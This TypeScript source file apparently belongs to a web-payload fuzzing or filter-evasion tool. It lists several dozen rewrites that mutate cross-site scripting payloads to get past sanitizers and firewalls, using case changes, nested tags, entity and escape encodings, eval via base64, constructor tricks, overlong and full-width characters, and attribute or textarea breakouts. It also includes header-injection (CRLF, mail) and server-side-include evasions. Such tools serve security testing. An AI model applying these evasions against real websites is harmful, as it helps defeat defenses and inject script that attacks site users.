import { randomCase, swap } from '../rewriting.ts';
import type { Rewrite } from './rewrite.ts';

const tags = (text: string, by: (name: string) => string): string | null => swap(text, /(?<=<\/?)([a-z]\w*)/gi, by);
const alert = (text: string, by: string): string | null => swap(text, /alert\(1\)/g, by);
const entity = (text: string, make: (code: number) => string): string => Array.from(text, (sign) => make(sign.codePointAt(0)!)).join('');
/** The value of a handler or of an address that runs. */
const handler = (text: string, by: (code: string) => string): string | null =>
  swap(
    text,
    /(\bon\w+=|href=|action=|src=)(["']?)((?:javascript:)?alert\(1\))\2/gi,
    (_, name, quote, code) => `${name}${quote || '"'}${by(code)}${quote || '"'}`,
  );

const PAGE = ['xss'];

const HTML: readonly Omit<Rewrite, 'classes'>[] = [
  {
    name: 'random case',
    on: 'all browsers',
    apply: (text, draw) => swap(text, /<\/?[a-z]+|\bon[a-z]+(?==)|javascript:/gi, (match) => randomCase(match, draw)),
  },
  { name: 'slashes for spaces', on: 'all browsers', apply: (text) => swap(text, /(?<=<[a-z]\w*) (?=\w)/gi, '/') },
  { name: 'line ends for spaces', on: 'all browsers', apply: (text) => swap(text, /(?<=<[^>]*) (?=[^>]*>)/g, '\n') },
  { name: 'form feeds for spaces', on: 'all browsers', apply: (text) => swap(text, /(?<=<[a-z]\w*) /gi, '\f') },
  { name: 'spaces about the equals sign', on: 'all browsers', apply: (text) => swap(text, /(?<=\bon[a-z]+)=/gi, '\t=\n') },
  {
    name: 'words before the handler',
    on: 'all browsers',
    apply: (text) => swap(text, /(?<=<[a-z]\w*)[ /](?=\w+=)/gi, ' data-a="x>y" class=\'b\' '),
  },
  {
    name: 'rubbish in the tag',
    on: 'all browsers',
    apply: (text) => swap(text, /(?<=<(?:img|svg|video|input|details|body|iframe))[ /]/gi, '/"\'`=x/ '),
  },
  { name: 'a closing tag with rubbish', on: 'all browsers', apply: (text) => swap(text, /<\/script>/gi, '</script\t x="y" >') },
  { name: 'no closing sign', on: 'all browsers', apply: (text) => swap(text, />$/, ' x=') },
  { name: 'two opening signs', on: 'all browsers', apply: (text) => swap(text, /^</, '<<') },
  {
    name: 'tags within tags',
    on: 'programs that remove tags once',
    apply: (text) => tags(text, (name) => (/^script$/i.test(name) ? 'scr<script>ipt' : name)),
  },
  {
    name: 'words within words',
    on: 'programs that remove words once',
    apply: (text) =>
      swap(text, /\b(on)(error|load|focus|click|toggle)\b|\b(java)(script):/gi, (match) => `${match.slice(0, 3)}${match}${match.slice(3)}`),
  },
  {
    name: 'entities without their end',
    on: 'all browsers',
    apply: (text) => handler(text, (code) => entity(code, (one) => `&#${String(one).padStart(7, '0')}`)),
  },
  {
    name: 'hexadecimal entities',
    on: 'all browsers',
    apply: (text) => handler(text, (code) => entity(code, (one) => `&#x${one.toString(16)};`)),
  },
  {
    name: 'named entities',
    on: 'all browsers',
    apply: (text) => handler(text, (code) => code.replace('(', '&lpar;').replace(')', '&rpar;').replace(':', '&colon;')),
  },
  {
    name: 'line ends in the scheme',
    on: 'all browsers',
    apply: (text) => swap(text, /(?<==["']?)javascript:/gi, 'jav&NewLine;a&Tab;script&colon;'),
  },
  {
    name: 'control signs before the scheme',
    on: 'all browsers',
    apply: (text) => swap(text, /(?<=["'])javascript:|^javascript:/gi, '\x01\x19 javascript:'),
  },
  { name: 'line ends within the scheme', on: 'all browsers', apply: (text) => swap(text, /javascript:/gi, 'java\nscr\tipt:') },
  { name: 'names in escapes', on: 'all browsers', apply: (text) => alert(text, '\\u0061lert(1)') },
  { name: 'names in long escapes', on: 'all browsers', apply: (text) => alert(text, '\\u{0061}l\\u{65}rt(1)') },
  { name: 'members by pieces', on: 'all browsers', apply: (text) => alert(text, "top['al'+'ert'](1)") },
  { name: 'members by a pattern', on: 'all browsers', apply: (text) => alert(text, 'top[/al/.source+/ert/.source](1)') },
  { name: 'code from base64', on: 'all browsers', apply: (text) => alert(text, "self['ev'+'al'](atob('YWxlcnQoMSk='))") },
  { name: 'code from a number', on: 'all browsers', apply: (text) => alert(text, 'top[8680439..toString(30)](1)') },
  { name: 'parentheses about the name', on: 'all browsers', apply: (text) => alert(text, '(alert)(1)') },
  { name: 'comma operator', on: 'all browsers', apply: (text) => alert(text, '(0,alert)(1)') },
  { name: 'optional call', on: 'all browsers', apply: (text) => alert(text, 'alert?.(1)') },
  { name: 'template call', on: 'all browsers', apply: (text) => alert(text, 'alert`1`') },
  { name: 'call by name', on: 'all browsers', apply: (text) => alert(text, 'alert.call(null,1)') },
  { name: 'call by list', on: 'all browsers', apply: (text) => alert(text, '[1].map(alert)') },
  { name: 'call by reflection', on: 'all browsers', apply: (text) => alert(text, 'Reflect.apply(alert,null,[1])') },
  { name: 'thrown', on: 'all browsers', apply: (text) => alert(text, '{onerror=alert}throw 1') },
  { name: 'made by a function', on: 'all browsers', apply: (text) => alert(text, 'Function`a${`alert\\x281\\x29`}```') },
  { name: 'made by a constructor', on: 'all browsers', apply: (text) => alert(text, "[].at.constructor('alert(1)')()") },
  { name: 'by a timer', on: 'all browsers', apply: (text) => alert(text, "setTimeout('ale'+'rt(1)')") },
  { name: 'by address', on: 'all browsers', apply: (text) => alert(text, "location='javas'+'cript:alert%281%29'") },
  { name: 'by import', on: 'all browsers', apply: (text) => alert(text, "import('data:text/javascript,alert(1)')") },
  {
    name: 'signs alone',
    on: 'all browsers',
    apply: (text) => alert(text, "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]['constr'+'uctor']('alert(1)')()"),
  },
  { name: 'comments in the call', on: 'all browsers', apply: (text) => alert(text, 'alert/*a*/(/*b*/1)') },
  { name: 'setter', on: 'all browsers', apply: (text) => alert(text, 'window.onhashchange=alert,location.hash=1') },
  {
    name: 'document written',
    on: 'all browsers',
    apply: (text) => alert(text, "document.write('\\x3cscript\\x3ealert(1)\\x3c/script\\x3e')"),
  },
  {
    name: 'full-width signs',
    on: 'programs with best-fit code pages or NFKC',
    apply: (text) => swap(text, /[<>]/g, (match) => (match === '<' ? '\uff1c' : '\uff1e')),
  },
  {
    name: 'overlong signs',
    on: 'programs that decode leniently',
    apply: (text) => swap(text, /[<>]/g, (match) => (match === '<' ? '%c0%bc' : '%c0%be')),
  },
  {
    name: 'JavaScript escapes of signs',
    on: 'pages that put it into a script',
    apply: (text) => swap(text, /[<>"']/g, (match) => `\\x${match.charCodeAt(0).toString(16)}`),
  },
  {
    name: 'JSON escapes of signs',
    on: 'programs that read JSON in it',
    apply: (text) => swap(text, /[<>"']/g, (match) => `\\u00${match.charCodeAt(0).toString(16)}`),
  },
  {
    name: 'entities of signs',
    on: 'programs that decode before they show',
    apply: (text) => swap(text, /[<>]/g, (match) => (match === '<' ? '&lt;' : '&gt;')),
  },
  {
    name: 'entities without ends of signs',
    on: 'programs that decode before they show',
    apply: (text) => swap(text, /[<>]/g, (match) => (match === '<' ? '&lt' : '&gt')),
  },
  {
    name: 'after an honest sentence',
    on: 'all browsers',
    apply: (text) => (text.startsWith('<') ? `Thank you for the flowers ${text} and best wishes` : null),
  },
  { name: 'in a closed comment', on: 'all browsers', apply: (text) => (text.startsWith('<') ? `<!-- x -->--!>${text}` : null) },
  { name: 'out of an attribute', on: 'all browsers', apply: (text) => (text.startsWith('<') ? `x" />${text}` : null) },
  { name: 'out of a text area', on: 'all browsers', apply: (text) => (text.startsWith('<') ? `</textarea></title></style>${text}` : null) },
];

const heads: readonly Rewrite[] = [
  {
    name: 'line end alone',
    on: 'PHP before 5, Node before 6, nginx modules',
    classes: ['crlf', 'mail-injection'],
    apply: (text) => swap(text, /\r\n/g, '\n'),
  },
  {
    name: 'escaped once more',
    on: 'programs that decode again',
    classes: ['crlf', 'mail-injection'],
    apply: (text) => swap(text, /[\r\n]/g, encodeURIComponent),
  },
  {
    name: 'signs whose low byte is a line end',
    on: 'programs that cut characters to bytes',
    classes: ['crlf'],
    apply: (text) => swap(text, /[\r\n]/g, (match) => (match === '\r' ? '\u560d' : '\u560a')),
  },
  {
    name: 'space before the name',
    on: 'lenient readers',
    classes: ['crlf', 'mail-injection'],
    apply: (text) => swap(text, /\n(?=[A-Z])/g, '\n '),
  },
  {
    name: 'names in random case',
    on: 'all',
    classes: ['crlf', 'mail-injection'],
    apply: (text, draw) => swap(text, /\n[A-Za-z-]+(?=:)/g, (match) => randomCase(match, draw)),
  },
  {
    name: 'an honest text before',
    on: 'all',
    classes: ['crlf', 'mail-injection'],
    apply: (text) => swap(text, /^x/, 'en-GB, statement of March'),
  },
  { name: 'spaces in the comment', on: 'nginx', classes: ['ssi'], apply: (text) => swap(text, /<!--#(?=\w)/g, '<!--# \t') },
  {
    name: 'random case',
    on: 'Apache, IIS',
    classes: ['ssi'],
    apply: (text, draw) => swap(text, /(?<=#)\w+/g, (match) => randomCase(match, draw)),
  },
  {
    name: 'other quotes',
    on: 'Apache, nginx',
    classes: ['ssi'],
    apply: (text) => swap(text, /(?<==)"([^"']*)"/g, (_, inner) => `'${inner}'`),
  },
  { name: 'line ends inside', on: 'Apache, Varnish', classes: ['ssi'], apply: (text) => swap(text, / (?=\w+=)/g, '\n\t') },
  { name: 'after an honest sentence', on: 'all', classes: ['ssi', 'log4shell'], apply: (text) => `Thank you for March ${text}` },
];

export const PAGE_REWRITES: readonly Rewrite[] = [...HTML.map((one) => ({ ...one, classes: PAGE })), ...heads];
